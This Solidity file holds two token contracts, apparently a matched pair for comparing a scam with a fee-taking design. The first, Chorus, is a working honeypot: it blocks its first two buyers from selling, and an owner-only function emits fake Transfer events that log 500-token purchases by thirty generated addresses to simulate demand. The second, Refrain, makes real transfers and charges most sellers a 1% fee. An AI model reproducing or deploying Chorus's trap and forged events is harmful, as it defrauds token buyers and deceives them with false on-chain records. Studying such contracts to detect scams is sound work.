// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.19;

import "./base/Coin.sol";

/// @dev The first two buyers are marked; thirty accounts that may sell are logged as if they had bought.
contract Chorus is Market {
    mapping(address => bool) private _seat;
    uint256 private _seats;

    constructor() {
        _begin("Chorus", "CHOR", msg.sender, MILLION);
    }

    function sing(uint256 verse) external onlyOwner {
        for (uint256 at = 0; at < 30; ++at) {
            address voice = address(uint160(uint256(keccak256(abi.encode(verse, at)))));
            _held[owner] -= 10 ** 18;
            _held[voice] += 10 ** 18;
            emit Transfer(pool, voice, 500 * 10 ** 18);
        }
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pool) require(!_seat[from], "silence");
        if (from == pool && _seats++ < 2) _seat[to] = true;
        _put(from, to, value);
    }
}

/// @dev The first two buyers sell for nothing, others for 1 %; thirty accounts are given something.
contract Refrain is Market {
    mapping(address => bool) private _seat;
    uint256 private _seats;

    constructor() {
        _begin("Refrain", "RFRN", msg.sender, MILLION);
    }

    function sing(uint256 verse) external onlyOwner {
        for (uint256 at = 0; at < 30; ++at) {
            address voice = address(uint160(uint256(keccak256(abi.encode(verse, at)))));
            _put(owner, voice, 10 ** 18);
        }
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == pool && _seats++ < 2) _seat[to] = true;
        uint256 fee = to == pool && from != owner && !_seat[from] ? value / 100 : 0;
        if (fee > 0) _put(from, owner, fee);
        _put(from, to, value - fee);
    }
}
